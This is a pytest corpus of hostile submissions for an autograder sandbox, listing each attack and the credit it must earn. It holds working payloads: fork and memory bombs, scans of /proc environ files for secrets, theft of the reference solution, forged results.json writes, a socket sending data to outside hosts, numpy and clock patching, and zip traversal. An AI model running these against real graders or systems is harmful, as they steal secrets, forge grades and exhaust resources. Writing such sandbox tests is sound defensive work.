"""Hostile submissions: each attack, the exact credit it must get, and what must not happen.

Most attacks keep the reference and wrap ONE function (``same_padding`` in shapes, ``relu_forward``
in layers, ``conv_forward_fast`` in fast_layers), so the expected credit is exact: the tests that
call that function lose exactly what the attack costs them, every other test passes. An attack
that "wins" nothing still answers honestly (through the reference function it wraps), so that any
credit it got by cheating would show as a test passing that must fail, or vice versa.

Besides the credit, ``harness.check_contained`` runs after every case: the grader's secret
environment variable never reaches the student, nothing is written outside the sandbox (the
markers folder, the grader's cwd, another student's submission, the grader's files), nothing
connects to the grader's loopback port, and no process the attack started is left running.
Attacks print what they tried (``ATTACK ...``), so that a check can see the attack really ran.
"""
from __future__ import annotations

import dataclasses
import os
import textwrap

import pytest

from autograder.engine.sandbox import detect_isolation
from autograder.examples import REFERENCE_DIR

from . import AllOf, Append, Case, Fails, Remove, Replace, Unstated, Write
from .build import notebook, raw_bytes, zip_bomb, zipped

S, L, FL = "shapes.py", "layers.py", "fast_layers.py"

# Engine bugs this corpus found, fixed since; the cases named stay as regression tests:
# - two_parts_in_one_run, syntax_error_in_one_file: the second part graded in one run ran the
#   first part's test_visible.py (both imported as the module "test_visible").
# - hide_in_place_edit, hide_returned_view: the in-place and view checks ran in the child with the
#   student's numpy, so patching np.array_equal / np.shares_memory hid an in-place edit / a view.
# - forbidden_import_hook_removed: removing the import hook from sys.meta_path let scipy in.
# - array_with_33_dims: an array the grader refused to decode was a grader error, not a failed test.

# Grading cifar10 takes minutes (a 3-epoch training check and two timed comparisons): run these
# with CORPUS_CIFAR10=1. Their timed tests compare the reference model with itself, so their
# ratio is near 1 but noisy (1.5x was seen on a busy machine, the tier bound is 2x).
CIFAR10_OPT_IN = pytest.mark.skipif(not os.environ.get("CORPUS_CIFAR10"), reason=(
    "cifar10 cases take minutes each (training check, timed tests): set CORPUS_CIFAR10=1"))
# Without Landlock (Linux < 5.13, or refused), the process isolation cannot hide files: where the
# child also cannot switch to a uid of its own (pyenv under /root), it reads what root can.
NO_LANDLOCK = not detect_isolation(allow_namespaces=False).landlock
KNOWN_LIMIT_PROCESS_AS_ROOT = pytest.mark.xfail(NO_LANDLOCK, strict=True, reason=(
    "known limit of process isolation without Landlock, as root where Python is not readable "
    "by other users: the child runs as root and can read and write what root can (the report "
    "says so)"))
BUG_GRADER_FILES_READABLE = pytest.mark.xfail(NO_LANDLOCK, strict=True, reason=(
    "known limit of process isolation without Landlock: student code can read the checkout's "
    "world-readable files, so reference/shapes.py is loaded by absolute path"))


# --- how a wrapped function loses its tests ----------------------------------------------------

# Every call of same_padding fails (an exception, a crash, a wrong type): its 7 cases, the one
# same_padding case of test_argument_types, and the 2 same_padding cases of the textbook test.
SAME_PADDING_LOST = dict(test_same_padding=0, test_argument_types=Fails(1, "same_padding(3.0)"),
                         test_pool_and_padding_textbook=Fails(2, "same_padding"))
# ... and when each call times out, the cases after it in the same test are not run.
SAME_PADDING_TIMED_OUT = dict(SAME_PADDING_LOST, test_argument_types=Fails(3, "same_padding(3.0)"))
# same_padding returns 0 (a cheat that fell back to "return 0"): right for F = 1 only.
SAME_PADDING_ZERO = dict(test_same_padding=Fails(6), test_argument_types=Fails(1, "same_padding(3.0)"),
                         test_pool_and_padding_textbook=Fails(2, "same_padding"))
# Every call of relu_forward fails: the backward tests too, since they use its cache.
RELU_LOST = dict(test_relu_forward_values=0, test_relu_backward_values=0, test_relu_float32=0,
                 test_relu_does_not_modify_inputs=0, test_relu_small=0)
# relu_forward returns a wrong (but well-formed) out and an honest cache.
RELU_OUT_WRONG = dict(test_relu_forward_values=0, test_relu_float32=Fails(1, "forward"),
                      test_relu_small=Fails(1, "forward"))


# Attacks print what they tried; line buffering keeps it when the process is killed later.
FLUSHED = "import sys as _sys\n_sys.stdout.reconfigure(line_buffering=True)\n\n"


# cifar10.pt does not load: every test that needs the trained model fails; the parameter
# budget, the training check, the timed tests and the visible logits test build their own model.
# The two timed tests compare the reference model with itself; with the measurement budget
# spent after one round on a busy machine, 2.55x was measured (half credit): not stated.
NOISY = Unstated("timed against the reference on a busy machine: 1 round, ratio 1.1x to 2.6x")
CIFAR10_NO_WEIGHTS = dict(test_weights_load_into_build_model=0, test_parameter_budget=0,
                          test_eval_mode_outputs_do_not_depend_on_the_batch=0,
                          test_accuracy_tiers=0,
                          test_inference_speed=NOISY, test_training_step_speed=NOISY)


def _prefixed(part: str, fails: dict) -> dict:
    return {f"{part}::{k}": v for k, v in fails.items()}


# Crashes and hangs cost a restart of the student process (about a second) each: the attacks
# below strike on the first case of test_same_padding, same_padding(1), and fail fast elsewhere.
FAIL_FAST = 'raise RuntimeError("this attack strikes on same_padding(1) only")'


def once(attack: str) -> str:
    return f"if kernel_size == 1:\n{textwrap.indent(textwrap.dedent(attack).strip(), '    ')}\n{FAIL_FAST}"


def wrap_same_padding(body: str) -> Append:
    """shapes.py keeps the reference; ``same_padding`` runs ``body`` (which may ``return``)
    and then answers honestly through the reference's function."""
    return Append(S, FLUSHED + "_honest_same_padding = same_padding\n\n\ndef same_padding(kernel_size):\n"
                  + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
                  + "\n    return _honest_same_padding(kernel_size)\n")


def wrap_relu_forward(body: str) -> Append:
    return Append(L, FLUSHED + "_honest_relu_forward = relu_forward\n\n\ndef relu_forward(x):\n"
                  + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
                  + "\n    return _honest_relu_forward(x)\n")


def shapes(name, why, *edits, fails=None, **kw):
    return Case(name, ("shapes",), why, edits, fails=_prefixed("shapes", fails or {}), **kw)


def layers(name, why, *edits, fails=None, **kw):
    return Case(name, ("layers",), why, edits, fails=_prefixed("layers", fails or {}), **kw)


def fast(name, why, *edits, fails=None, **kw):
    return Case(name, ("fast_layers",), why, edits, fails=_prefixed("fast_layers", fails or {}), **kw)


# --- extra checks -------------------------------------------------------------------------------

def says(*texts, absent=()):
    """The student's output shows the attack ran (``texts``) and did not succeed (``absent``)."""
    def check(outcome):
        for text in texts:
            assert text in outcome.student_output, f"the attack did not report {text!r}"
        for text in absent:
            assert text not in outcome.student_output, f"the attack reported {text!r}"
    return check


def mentions(test_id: str, *texts):
    """The test's output (what the student reads) explains the failure."""
    def check(outcome):
        output = outcome.output_of(test_id)
        for text in texts:
            assert text in output, f"{test_id}'s output does not mention {text!r}:\n{output[:1500]}"
    return check


def any_test_mentions(text: str):
    """Some test's output says ``text`` (which test calls a function first is the suite's say)."""
    def check(outcome):
        assert any(text in row.output for row in outcome.rows), f"no test mentions {text!r}"
    return check


def note_mentions(*texts):
    def check(outcome):
        notes = outcome.gradescope["output"]
        for text in texts:
            assert text in notes, f"the result's notes do not mention {text!r}:\n{notes[:1500]}"
    return check


def all_of(*checks):
    def check(outcome):
        for c in checks:
            c(outcome)
    return check


def save_untrained_weights(folder) -> None:
    """cifar10.pt: the state_dict of the folder's own (untrained) build_model()."""
    import sys

    import torch

    sys.path.insert(0, str(folder))
    try:
        import cifar10 as student_model
        torch.save(student_model.build_model().state_dict(), folder / "cifar10.pt")
    finally:
        sys.path.remove(str(folder))
        sys.modules.pop("cifar10", None)


def _truncated_weights(folder, ctx):
    """Save the reference model's (untrained) state_dict, then keep its first half."""
    save_untrained_weights(folder)
    data = (folder / "cifar10.pt").read_bytes()
    (folder / "cifar10.pt").write_bytes(data[:len(data) // 2])
    return folder


def _huge_weights(folder, ctx):
    """A cifar10.pt of 120 MiB of zeros, written sparse (the bytes once sat in every test
    process that imported this module)."""
    with open(folder / "cifar10.pt", "wb") as f:
        f.truncate(120 * 2**20)
    return folder


# --- attack code used by several cases ---------------------------------------------------------

PROBE_SECRETS = """
import glob, os
found, read = [], 0
def scan(label, data):
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else str(data)
    for line in text.replace("\\0", "\\n").splitlines():
        if "@@SECRET_NAME@@" in line or "s3cr3t" in line:
            found.append(f"{label}: {line}")
scan("os.environ", "\\n".join(f"{k}={v}" for k, v in os.environ.items()))
paths = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ"]
paths += sorted(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"))
for path in paths:
    try:
        with open(path, "rb") as f:
            scan(path, f.read())
        read += 1
    except OSError:
        pass
print("ATTACK secrets probed", len(paths), "files, read", read, "found:", found)
"""

STEAL_REFERENCE = """
import importlib, importlib.util, os, sys
wanted = ["@@REPO@@/reference/shapes.py", "@@REPO@@/autograder/suites/shapes/test_shapes.py"]
here = os.path.dirname(os.path.abspath(__file__))
for _ in range(6):  # walk up from the submission: is the grader's checkout above it?
    wanted.append(os.path.join(here, "reference", "shapes.py"))
    here = os.path.dirname(here)
for root in ["@@REPO@@", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/autograder", "/srv", "/mnt"]:
    seen = 0
    for folder, dirs, files in os.walk(root):
        seen += 1
        if seen > 3000 or folder.count("/") > 6:
            dirs[:] = []
        if "shapes.py" in files and os.path.basename(folder) == "reference":
            wanted.append(os.path.join(folder, "shapes.py"))
for path in wanted:
    try:
        spec = importlib.util.spec_from_file_location("stolen_reference", path)
        stolen = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(stolen)
        if hasattr(stolen, "same_padding"):
            print("ATTACK CHEAT-WORKED", path)
            return stolen.same_padding(kernel_size)
    except Exception:
        pass
sys.path.insert(0, "@@REPO@@")
try:
    stolen = importlib.import_module("reference.shapes")
    print("ATTACK CHEAT-WORKED import reference.shapes")
    return stolen.same_padding(kernel_size)
except Exception:
    pass
print("ATTACK cheat-blocked", len(wanted), "paths")
return 0
"""

FAKE_RESULTS = """
import json, os
fake = json.dumps({"score": 999.0, "tests": [], "output": "hacked"})
targets = ["/autograder/results/results.json", "results.json", "@@CWD@@/results.json",
           "@@OUTPUT@@", "@@MARKERS@@/results.json", "@@REPO@@/results.json"]
for target in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as f:
            f.write(fake)
        print("ATTACK wrote", target)
    except OSError as exc:
        print("ATTACK could not write", target, type(exc).__name__)
"""


HOSTILE = [
    # --- time, memory, processes ---------------------------------------------------------------
    shapes("infinite_loop", "same_padding never returns: its first call is cut at the call "
           "limit, and it is not called again in the part",
           wrap_same_padding("while True:\n    pass"),
           fails=SAME_PADDING_TIMED_OUT, call_timeout=3.0, max_seconds=40,
           check=all_of(any_test_mentions("same_padding() in shapes.py did not finish within 3.0 s"),
                        mentions("shapes::test_same_padding", "same_padding timed out earlier in "
                                 "this part (3 s limit); not called again"))),
    shapes("import_time_hang", "shapes.py loops forever at import: every test fails, and the "
           "import is tried once only",
           Append(S, "while True:\n    pass"),
           fails_all=(AllOf("shapes"),), call_timeout=2.0, part_timeout=6.0, max_seconds=30,
           check=mentions("shapes::test_alexnet_conv1", "importing shapes.py timed out earlier")),
    shapes("memory_bomb", "same_padding allocates until the address-space limit stops it",
           wrap_same_padding("""
               if kernel_size == 1:  # the first call grows slowly to the limit, the others jump
                   hog = []
                   while True:
                       hog.append(bytearray(64 * 2**20))
               hog = bytearray(2**40)
           """),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "MemoryError")),
    shapes("fork_bomb", "each call starts processes that fork until the process limit; the "
           "calls still answer, and every bomb process dies with the part",
           Append(S, """
               import os, sys
               _honest_same_padding = same_padding
               BOMB = "import os, time\\nwhile True:\\n    try:\\n        os.fork()\\n    except OSError:\\n        time.sleep(0.05)\\n"

               def same_padding(kernel_size):
                   try:
                       if os.fork() == 0:
                           os.execv(sys.executable, [sys.executable, "-c", BOMB, "@@TAG@@"])
                   except OSError:
                       pass
                   return _honest_same_padding(kernel_size)
           """)),
    shapes("sys_exit", "sys.exit(0) in same_padding is an exception, not a pass",
           wrap_same_padding("import sys\nsys.exit(0)"),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "sys.exit(0)")),
    shapes("os_exit", "os._exit(0) kills the student process mid-call: a crash, not a pass",
           wrap_same_padding(once("import os\nos._exit(0)")),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "exited with code 0")),
    shapes("exit_at_import", "sys.exit(0) while shapes.py is imported fails every test",
           Append(S, "import sys\nsys.exit(0)"),
           fails_all=(AllOf("shapes"),), check=mentions("shapes::test_same_padding", "sys.exit(0)")),
    shapes("keyboard_interrupt", "KeyboardInterrupt raised by student code stays the student's",
           wrap_same_padding("raise KeyboardInterrupt"),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "KeyboardInterrupt")),
    shapes("segfault", "a segfault through ctypes crashes only the student process",
           wrap_same_padding(once("import ctypes\nctypes.string_at(0)")),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "SIGSEGV")),
    shapes("recursion_bomb", "unbounded recursion is a RecursionError in the student's call",
           Append(S, "def same_padding(kernel_size):\n    return same_padding(kernel_size)\n"),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "RecursionError")),
    shapes("c_stack_overflow", "recursion with the limit lifted overflows the C stack: a crash",
           wrap_same_padding("""
               import sys
               if kernel_size != 1:  # one crash is enough (each takes seconds): fail fast
                   raise RecursionError("maximum recursion depth exceeded")
               sys.setrecursionlimit(10**8)
               nested = []
               for _ in range(2 * 10**5):
                   nested = [nested]
               repr(nested)  # recursion in C, far deeper than the C stack
           """), fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "SIGSEGV")),
    shapes("sigstop_self", "the student process stops itself: the call times out, the part goes on",
           wrap_same_padding(once("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)")),
           fails=SAME_PADDING_LOST, call_timeout=3.0, max_seconds=40,
           check=mentions("shapes::test_same_padding", "did not finish within 3.0 s")),
    shapes("signal_parent", "SIGINT, SIGTERM and SIGKILL sent to the parent: the parent is the "
           "sandbox's own init, run by root, so each is refused; the calls answer honestly",
           wrap_same_padding("""
               import os, signal, time
               for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
                   try:
                       os.kill(os.getppid(), sig)
                       print("ATTACK signalled the parent with", sig.name)
                       time.sleep(0.5)  # let it land before answering
                   except OSError as exc:
                       print("ATTACK could not signal the parent", type(exc).__name__)
           """), check=says("ATTACK could not signal the parent", absent=("ATTACK signalled",))),
    shapes("kill_everything", "os.kill(-1, SIGKILL) finds no process it may kill: its uid owns "
           "nothing else, the grader is out of its PID namespace (ESRCH, a failed call)",
           wrap_same_padding("import os, signal\nos.kill(-1, signal.SIGKILL)"),
           fails=SAME_PADDING_LOST, check=mentions("shapes::test_same_padding", "ProcessLookupError")),

    # --- output and the protocol -----------------------------------------------------------------
    shapes("million_lines", "a million lines of output: kept bounded, the answers still count",
           Append(S, """
               _honest_same_padding = same_padding
               _printed = []

               def same_padding(kernel_size):
                   if not _printed:
                       _printed.append(1)
                       for i in range(1_000_000):
                           print("spam line", i)
                   return _honest_same_padding(kernel_size)
           """), check=lambda o: (_check_bounded_output(o))),
    shapes("protocol_garbage", "same_padding writes garbage into the grader's reply pipe",
           wrap_same_padding(once("""
               import json, os, sys
               fds = json.loads(sys.argv[-1])["fds"]
               os.write(fds[1], b"GRD1 this is not a reply" * 100)
           """)), fails=SAME_PADDING_LOST,
           check=mentions("shapes::test_same_padding", "cannot read (bad message prefix)")),

    # --- files -----------------------------------------------------------------------------------
    Case("fake_results_json", ("shapes",), "writes a results.json with 999 points to "
         "/autograder/results, the cwd, the grader's cwd and the --output path; the grader's "
         "own results.json wins", (wrap_same_padding(FAKE_RESULTS),), via_cli=True,
         check=lambda o: _check_results_file(o, 15.0)),
    Case("lingering_writer", ("shapes",), "a setsid daemon keeps rewriting the --output path "
         "after the call returns; it dies with the part and the result stays the grader's",
         (wrap_same_padding("""
             import subprocess, sys
             LOOP = ("import json, time\\nend = time.time() + 60\\nwhile time.time() < end:\\n"
                     "    for t in ['@@OUTPUT@@', '@@MARKERS@@/late.json']:\\n"
                     "        try:\\n            open(t, 'w').write(json.dumps({'score': 999}))\\n"
                     "        except OSError:\\n            pass\\n    time.sleep(0.02)\\n")
             subprocess.Popen([sys.executable, "-c", LOOP, "@@TAG@@"], start_new_session=True,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         """),), via_cli=True, check=lambda o: _check_results_file(o, 15.0, linger=1.5)),
    shapes("thread_outlives_call", "a thread started by the first call keeps writing files and "
           "patching numpy and the runtime while later calls run; answers stay honest",
           Append(S, """
               import sys, threading, time
               sys.stdout.reconfigure(line_buffering=True)
               _honest_same_padding = same_padding

               def _meddle():
                   while True:
                       for target in ["@@MARKERS@@/thread.txt", "@@CWD@@/thread.txt", "@@OUTPUT@@"]:
                           try:
                               open(target, "w").write("written by a thread")
                           except OSError:
                               pass
                       for module in list(sys.modules.values()):
                           if getattr(module, "__name__", "").startswith("numpy.testing"):
                               module.assert_allclose = lambda *a, **k: None
                       time.sleep(0.01)

               def same_padding(kernel_size):
                   if not any(t.name == "meddler" for t in threading.enumerate()):
                       threading.Thread(target=_meddle, name="meddler", daemon=True).start()
                       print("ATTACK thread started")
                   return _honest_same_padding(kernel_size)
           """), check=says("ATTACK thread started")),
    shapes("huge_file", "same_padding writes a 1 GiB file: the file-size limit stops it at 64 MiB",
           wrap_same_padding("""
               with open("big.bin", "wb") as f:
                   for _ in range(1024):
                       f.write(b"\\0" * 2**20)
           """), fails=SAME_PADDING_LOST,
           check=mentions("shapes::test_same_padding", "File too large")),
    shapes("delete_own_files", "same_padding deletes its own files and the uploaded folder, then "
           "dies: the next call gets a fresh copy, the upload is untouched",
           wrap_same_padding(once("""
               import glob, os
               for path in glob.glob("*") + glob.glob("@@SUBMISSION@@/*"):
                   try:
                       os.remove(path)
                       print("ATTACK deleted", path)
                   except OSError:
                       pass
               os._exit(3)
           """)), fails=SAME_PADDING_LOST,
           check=lambda o: _check_upload_intact(o)),
    shapes("overwrite_grader_files", "appends to grading.toml, the suites' checks and visible tests, "
           "the thresholds and numpy itself: every write is refused or lands in a throwaway copy",
           wrap_same_padding("""
               import glob, numpy
               targets = ["@@REPO@@/autograder/grading.toml", "@@REPO@@/autograder/thresholds.toml",
                          "@@REPO@@/autograder/suites/checks.py", numpy.__file__]
               targets += glob.glob("@@REPO@@/autograder/suites/*/test_visible.py")
               for target in targets:
                   try:
                       with open(target, "a") as f:
                           f.write("\\n# corpus: overwritten by a student\\n")
                       print("ATTACK appended to", target)
                   except OSError as exc:
                       print("ATTACK refused", target, type(exc).__name__)
           """), check=says("ATTACK refused", absent=("ATTACK appended",))),

    # --- secrets and other people's files ---------------------------------------------------------
    shapes("read_secrets", "reads os.environ, /proc/1/environ, /proc/<ppid>/environ and every "
           "/proc/*/environ and cmdline, printing what looks like the grader's secret",
           wrap_same_padding(PROBE_SECRETS), check=says("ATTACK secrets probed")),
    shapes("read_other_student", "reads another submission of the same batch and prints it",
           wrap_same_padding("""
               import os
               for path in ["@@OTHER@@/shapes.py", os.path.dirname("@@OTHER@@")]:
                   try:
                       print("ATTACK read", path, open(path).read() if path.endswith(".py") else os.listdir(path))
                   except OSError as exc:
                       print("ATTACK could not read", path, type(exc).__name__)
           """), check=says("ATTACK could not read")),
    shapes("steal_reference", "same_padding loads the grader's reference (by absolute path, by "
           "walking up from __file__ and the hidden folders, by importlib, by import reference) "
           "and falls back to returning 0",
           Append(S, FLUSHED + "def same_padding(kernel_size):\n"
                  + textwrap.indent(STEAL_REFERENCE.strip("\n"), "    ")),
           fails=SAME_PADDING_ZERO,
           check=says("ATTACK cheat-blocked", absent=("CHEAT-WORKED",))),
    shapes("network", "same_padding connects to the grader's loopback port and to the internet",
           wrap_same_padding("""
               import socket
               for address in [("127.0.0.1", @@PORT@@), ("1.1.1.1", 53)]:
                   try:
                       socket.create_connection(address, timeout=1).sendall(b"pwned")
                       print("ATTACK connected to", address)
                   except OSError as exc:
                       print("ATTACK no connection", type(exc).__name__)
           """), check=says("ATTACK no connection", absent=("ATTACK connected",))),

    # --- cheating on comparisons ------------------------------------------------------------------
    layers("patch_numpy_comparisons", "numpy's comparisons patched to always agree, and "
           "relu_forward returns zeros: the verdict is made in the grader, unpatched",
           Append(L, """
               import numpy, numpy.testing
               numpy.allclose = lambda *a, **k: True
               numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
               numpy.testing.assert_allclose = lambda *a, **k: None
               numpy.testing.assert_array_equal = lambda *a, **k: None
               try:
                   numpy.ndarray.__eq__ = lambda self, other: True
               except TypeError:
                   pass

               def relu_forward(x):
                   return numpy.zeros_like(x), x
           """), fails=RELU_OUT_WRONG),
    layers("hide_in_place_edit", "relu_forward clips x in place and patches np.array_equal so "
           "that the in-place check sees nothing",
           Replace(L, "    return np.maximum(x, 0, out=np.empty_like(x)), x\n",
                   "    np.maximum(x, 0, out=x)\n    return x.copy(), x\n"),
           Append(L, "np.array_equal = lambda *a, **k: True\n"),
           fails=dict(test_relu_does_not_modify_inputs=0)),
    shapes("always_equal_object", "same_padding returns an object equal to everything",
           wrap_same_padding("""
               class AlwaysEqual:
                   def __eq__(self, other):
                       return True
                   __hash__ = object.__hash__
               return AlwaysEqual()
           """), fails=SAME_PADDING_LOST,
           check=mentions("shapes::test_same_padding", "AlwaysEqual")),
    shapes("int_subclass", "same_padding returns an int subclass that equals everything",
           wrap_same_padding("""
               class Sly(int):
                   def __eq__(self, other):
                       return True
                   __hash__ = int.__hash__
               return Sly(0)
           """), fails=SAME_PADDING_LOST),
    layers("ndarray_subclass", "relu_forward returns zeros in an ndarray subclass whose "
           "operators claim equality; the grader receives a plain array",
           wrap_relu_forward("""
               import numpy
               class Liar(numpy.ndarray):
                   def __eq__(self, other):
                       return numpy.ones(self.shape, bool)
                   def __sub__(self, other):
                       return numpy.zeros(self.shape)
                   __rsub__ = __sub__
                   def __array_ufunc__(self, *args, **kwargs):
                       return numpy.zeros(self.shape)
               return numpy.zeros(numpy.shape(x), x.dtype).view(Liar), x
           """), fails=RELU_OUT_WRONG),
    layers("returns_its_input", "relu_forward returns x itself as out: wrong values, and the "
           "purity test sees out share memory with x",
           wrap_relu_forward("return x, x"),
           fails=dict(RELU_OUT_WRONG, test_relu_does_not_modify_inputs=0),
           check=mentions("layers::test_relu_does_not_modify_inputs", "as a view of one of its inputs")),
    layers("hide_returned_view", "relu_forward returns x itself and patches np.shares_memory so "
           "that the view check sees nothing",
           wrap_relu_forward("return x, x"), Append(L, "np.shares_memory = lambda *a, **k: False\n"),
           fails=dict(RELU_OUT_WRONG, test_relu_does_not_modify_inputs=0),
),
    # No purity test pools with a 1x1 window, so this view is never checked (a suite gap): the
    # values are right when they leave the sandbox, and the grader keeps its own copy.
    layers("view_zeroed_after_return", "a 1x1 max pool returns a view of x and a thread zeroes "
           "x right after the call returns: the grader already holds its own copy",
           Replace(L, "    out = np.empty((N, C, H_out, W_out), dtype=x.dtype)\n"
                      "    for i in range(H_out):\n        for j in range(W_out):\n"
                      "            window = x[:, :, i * stride : i * stride + PH, j * stride : j * stride + PW]\n"
                      "            out[:, :, i, j] = window.max(axis=(2, 3))\n",
                   "    if PH == PW == 1:\n        import threading, time\n"
                   "        threading.Timer(0.05, lambda: x.fill(0)).start()\n"
                   "        return x[:, :, ::stride, ::stride], (x.copy(), pool_param)\n"
                   "    out = np.empty((N, C, H_out, W_out), dtype=x.dtype)\n"
                   "    for i in range(H_out):\n        for j in range(W_out):\n"
                   "            window = x[:, :, i * stride : i * stride + PH, j * stride : j * stride + PW]\n"
                   "            out[:, :, i, j] = window.max(axis=(2, 3))\n")),
    layers("nan_and_inf", "relu_forward returns NaN and inf where x < 0",
           wrap_relu_forward("""
               out, cache = _honest_relu_forward(x)
               out = out.copy()
               out[x < 0] = float("nan")
               out.flat[0] = float("inf")
               return out, cache
           """), fails=RELU_OUT_WRONG, check=mentions("layers::test_relu_forward_values", "NaN")),
    shapes("odd_numbers", "same_padding returns NaN, inf, a 400-digit int, -0.0 and True",
           wrap_same_padding("""
               odd = {1: float("nan"), 7: float("inf"), 11: 10**400, 3: -0.0, 5: True}
               return odd.get(kernel_size, float("-inf"))
           """), fails=SAME_PADDING_LOST),
    layers("wrong_dtypes", "relu_forward returns an object array, relu_backward a string array",
           wrap_relu_forward("""
               import numpy
               out, cache = _honest_relu_forward(x)
               return out.astype(object), cache
           """), Append(L, """
               def relu_backward(dout, cache):
                   return numpy.full(numpy.shape(dout), "0.0")
           """), fails=RELU_LOST, check=mentions("layers::test_relu_forward_values", "dtype object")),
    layers("huge_return_value", "relu_forward returns a 600 MB array for 1-D inputs: over the "
           "reply limit, refused without the grader running out of memory",
           wrap_relu_forward("""
               import numpy
               if numpy.ndim(x) == 1:
                   return numpy.zeros(75 * 2**20, numpy.float64), x
           """), fails=dict(test_relu_forward_values=Fails(1, "x of shape (7,)"),
                            test_relu_backward_values=Fails(1, "x of shape (7,)"))),
    layers("array_with_33_dims", "relu_forward returns out with 33 dimensions (numpy allows 64)",
           wrap_relu_forward("""
               out, cache = _honest_relu_forward(x)
               return out.reshape(out.shape + (1,) * (33 - out.ndim)), cache
           """), fails=RELU_LOST, check=mentions("layers::test_relu_forward_values", "cannot read")),
    shapes("exception_str_raises", "same_padding raises a ValueError whose __str__ raises: the "
           "error cases still count, the message says it could not be shown",
           wrap_same_padding("""
               class Evil(ValueError):
                   def __str__(self):
                       raise RuntimeError("no message for you")
               raise Evil()
           """), fails=dict(test_same_padding=Fails(3), test_pool_and_padding_textbook=Fails(2)),
           check=mentions("shapes::test_same_padding", "could not be turned into text")),
    shapes("huge_exception_message", "same_padding raises a ValueError with a 50 MB message",
           wrap_same_padding('raise ValueError("A" * 50_000_000)'),
           fails=dict(test_same_padding=Fails(3), test_pool_and_padding_textbook=Fails(2)),
           check=lambda o: _check_result_small(o)),

    # --- imports -----------------------------------------------------------------------------------
    layers("forbidden_import", "layers.py imports scipy: refused in a numpy-only part",
           Append(L, "import scipy.signal\n"),
           fails_all=(AllOf("layers"),),
           check=mentions("layers::test_relu_small", "not allowed here", "numpy only")),
    layers("forbidden_import_in_call", "relu_forward imports torch when called",
           wrap_relu_forward("import importlib\ntorch = importlib.import_module('torch')\n"
                             "return torch.relu(torch.as_tensor(x)).numpy(), x"),
           fails=RELU_LOST, check=mentions("layers::test_relu_forward_values", "not allowed here")),
    layers("forbidden_import_hook_removed", "layers.py removes the import hook from sys.meta_path, "
           "then imports scipy: the part must still be refused",
           Append(L, """
               import sys
               sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_ForbiddenImports"]
               import scipy.signal
           """), fails_all=(AllOf("layers"),),
           check=mentions("layers::test_relu_small", "No module named 'scipy")),
    shapes("sys_modules_tampering", "shapes.py empties the grader runtime and numpy out of "
           "sys.modules and breaks json at import; its own answers are honest",
           Append(S, """
               import sys, types
               for name in list(sys.modules):
                   if name.startswith(("_grader_runtime", "numpy")):
                       sys.modules[name] = types.ModuleType(name)
               sys.modules["json"] = None
           """)),

    # --- the clock (timed tests of fast_layers) ----------------------------------------------------
    fast("fake_clock", "conv_forward_fast is slowed 20x, and every clock in the student process "
         "is frozen: the grader's clock still sees it", Append(FL, """
             import time
             _honest_conv_forward_fast = conv_forward_fast
             _sleep, _now = time.sleep, time.perf_counter

             def conv_forward_fast(x, w, b, conv_param):
                 _sleep(x.size * 5e-6)  # 0.25 s on the timed 4x3x64x64 input: 20x the reference
                 return _honest_conv_forward_fast(x, w, b, conv_param)

             for name in ("time", "perf_counter", "monotonic", "process_time", "thread_time"):
                 setattr(time, name, lambda: 0.0)
             for name in ("time_ns", "perf_counter_ns", "monotonic_ns", "process_time_ns"):
                 setattr(time, name, lambda: 0)
         """), fails=dict(test_conv_forward_fast_speed=0), max_seconds=120),
    fast("memoised_by_input", "a slow conv_forward_fast caches its result by input bytes: "
         "every timed run gets an input of its own, so it is slow every time", Append(FL, """
             import hashlib, time
             _honest_conv_forward_fast = conv_forward_fast
             _memo = {}

             def conv_forward_fast(x, w, b, conv_param):
                 key = hashlib.sha1(x.tobytes() + w.tobytes() + b.tobytes() + repr(conv_param).encode()).hexdigest()
                 if key not in _memo:
                     time.sleep(x.size * 5e-6)  # as slow as fake_clock's, once per input
                     _memo[key] = _honest_conv_forward_fast(x, w, b, conv_param)
                 return _memo[key]
         """), fails=dict(test_conv_forward_fast_speed=0), max_seconds=120),
    fast("stale_result_by_identity", "a slow conv_forward_fast returns its previous result "
         "when handed the same array object again: every timed run gets a new array, in memory "
         "the grader fills, so it is slow every time", Append(FL, """
             import time
             _honest_conv_forward_fast = conv_forward_fast
             _last = {}

             def conv_forward_fast(x, w, b, conv_param):
                 if id(x) not in _last:
                     time.sleep(x.size * 5e-6)
                     _last[id(x)] = _honest_conv_forward_fast(x, w, b, conv_param)
                 return _last[id(x)]
         """), fails=dict(test_conv_forward_fast_speed=0), max_seconds=120),

    # --- what is handed in -------------------------------------------------------------------------
    Case("zip_traversal", ("shapes",), "a zip with ../ and absolute member paths aimed at the "
         "markers folder: ignored, the honest shapes.py is graded",
         package=zipped(("../../markers/escape.py", b"x = 1\n"), ("../escape.py", b"x = 1\n"),
                        ("@@MARKERS@@/absolute.py", b"x = 1\n")),
         check=all_of(note_mentions("paths outside the submission are not allowed"),
                      lambda o: _check_no_escape(o))),
    Case("zip_symlink", ("shapes",), "shapes.py in the zip is a symlink to the reference: "
         "ignored, so shapes.py is missing", package=zipped(
             symlinks=(("shapes.py", "@@REPO@@/reference/shapes.py"),)),
         edits=(Remove(S),), fails_all=(AllOf("shapes"),),
         check=all_of(note_mentions("symlinks are not allowed"),
                      mentions("shapes::test_same_padding", "missing from the submission: shapes.py"))),
    Case("zip_bomb", ("shapes",), "a zip whose shapes.py inflates to 512 MiB: skipped while "
